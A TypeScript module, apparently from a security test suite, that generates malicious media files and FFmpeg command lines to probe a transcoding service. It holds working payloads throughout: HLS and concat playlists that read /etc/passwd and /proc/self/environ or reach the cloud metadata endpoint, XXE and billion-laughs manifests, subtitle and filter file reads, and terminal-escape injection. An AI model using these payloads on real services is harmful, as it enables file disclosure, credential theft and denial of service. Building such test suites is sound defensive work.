import type { AttackAddresses, AttackSubmission } from './attack-submission.ts'

/** Files that lead FFmpeg elsewhere: the command line is harmless, and the service accepts it. */
export function contentAttacks({ listener, own }: AttackAddresses): AttackSubmission[] {
  const targets = [
    'file:///etc/passwd',
    '/etc/passwd',
    '../../etc/passwd',
    '/proc/self/environ',
    `http://${listener}/a.ts`,
    'http://169.254.169.254/latest/meta-data/iam/',
    ...own,
  ]
  return [
    ...targets.map((target) => playlist(`playlist that names ${target}`, ['#EXTINF:9,', target])),
    ...targets.map((target) => ({
      name: `list that names ${target}`,
      form: 'files' as const,
      command: '-f concat -safe 0 -i {{in_1}} -map 0 -c copy -f data {{out_1}}',
      files: { 'list.txt': `ffconcat version 1.0\nfile '${target}'\n` },
    })),
    playlist('key of a playlist', [
      '#EXT-X-KEY:METHOD=AES-128,URI="file:///etc/passwd"',
      ...['#EXTINF:9,', 'in.mp4'],
    ]),
    playlist('initialisation of a playlist', [
      '#EXT-X-MAP:URI="/etc/passwd"',
      ...['#EXTINF:9,', '/proc/self/environ'],
    ]),
    {
      name: 'playlist under a film’s name',
      form: 'files',
      command: '-i {{in_1}} {{out_1}}',
      files: { 'film.mp4': hls(['#EXTINF:9,', 'concat:file:///etc/passwd|file:///etc/hosts']) },
    },
    {
      name: 'playlist in an AVI with a list of GAB2',
      form: 'files',
      command: '-i {{in_1}} {{out_1}}',
      files: {
        'film.avi': `RIFF\u0010\u0000\u0000\u0000AVI LIST${hls(['#EXTINF:9,', 'file:///etc/passwd'])}`,
      },
    },
    {
      name: 'manifest with an entity',
      form: 'files',
      command: '-i {{in_1}} -map 0 -c copy -f data {{out_1}}',
      files: {
        'a.mpd': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT3S"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="0" bandwidth="1"><BaseURL>&e;</BaseURL></Representation></AdaptationSet></Period></MPD>`,
      },
    },
    {
      name: 'manifest with a billion laughs',
      form: 'files',
      command: '-i {{in_1}} -map 0 -c copy -f data {{out_1}}',
      files: {
        'a.mpd': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${'bcdefghij'.replaceAll(/./g, (name, at: number) => `<!ENTITY ${name} "${`&${'abcdefghij'[at] ?? 'a'};`.repeat(10)}">`)}]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet><Representation id="0" bandwidth="1"><BaseURL>&j;</BaseURL></Representation></AdaptationSet></Period></MPD>`,
      },
    },
    {
      name: 'composition that names files',
      form: 'zip',
      command: '-f imf -assetmaps assetmap.xml -i cpl.xml -f null - -i in.mp4 -c copy a.mkv',
      files: {
        'assetmap.xml':
          '<AssetMap><AssetList><Asset><Id>urn:uuid:00000000-0000-0000-0000-000000000000</Id><ChunkList><Chunk><Path>file:///etc/passwd</Path></Chunk></ChunkList></Asset></AssetList></AssetMap>',
        'cpl.xml': '<CompositionPlaylist/>',
      },
    },
    {
      name: 'drawing with a text of a file',
      form: 'files',
      command: '-i {{in_1}} -frames:v 1 {{out_1}}',
      files: {
        'a.svg':
          '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><text y="9">&e;</text></svg>',
      },
    },
    {
      name: 'commands to a filter that read a file',
      form: 'zip',
      command: '-i in.mp4 -vf "sendcmd=f=commands.txt,drawtext=textfile=in.txt" -frames:v 1 a.png',
      files: { 'commands.txt': '0.0 drawtext reinit textfile=/etc/passwd;\n', 'in.txt': 'x' },
    },
    {
      name: 'session on the network',
      form: 'files',
      command: '-i {{in_1}} -t 1 {{out_1}}',
      files: {
        'a.sdp': `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\n`,
      },
    },
    {
      name: 'subtitles that are a list',
      form: 'zip',
      command: '-i in.mp4 -vf subtitles=a.srt -c:a copy a.mkv',
      files: { 'a.srt': `ffconcat version 1.0\nfile 'http://${listener}/s.srt'\n` },
    },
    {
      name: 'fonts by a path in subtitles',
      form: 'zip',
      command: '-i in.mp4 -vf ass=a.ass -frames:v 1 a.png',
      files: {
        'a.ass':
          '[Script Info]\nScriptType: v4.00+\n[V4+ Styles]\nFormat: Name, Fontname, Fontsize\nStyle: Default,/etc/passwd,20\n[Fonts]\nfontname: ../../etc/passwd\n[Events]\nFormat: Layer, Start, End, Style, Name, MarginL, MarginR, MarginV, Effect, Text\nDialogue: 0,0:00:00.00,0:00:02.00,Default,,0,0,0,,{\\fn/etc/passwd}x\n',
      },
    },
    {
      name: 'tags that turn a terminal and a header',
      form: 'zip',
      command: '-i in.mp4 -i tags.txt -map_metadata 1 -c copy a.mkv',
      files: { 'tags.txt': ';FFMETADATA1\ntitle=\u001b]0;x\u0007\\\nX-Injected: yes\n' },
    },
    {
      name: 'script of a frame server',
      form: 'files',
      command: '-i {{in_1}} {{out_1}}',
      files: { 'a.avs': 'DirectShowSource("/etc/passwd")\n' },
    },
  ]

  function playlist(name: string, lines: readonly string[]): AttackSubmission {
    return {
      name,
      form: 'files',
      command:
        '-allowed_extensions ALL -allowed_segment_extensions ALL -extension_picky 0 -i {{in_1}} -map 0 -c copy -f data {{out_1}}',
      files: { 'list.m3u8': hls(lines) },
    }
  }
}

function hls(lines: readonly string[]): string {
  return ['#EXTM3U', '#EXT-X-TARGETDURATION:9', ...lines, '#EXT-X-ENDLIST', ''].join('\n')
}
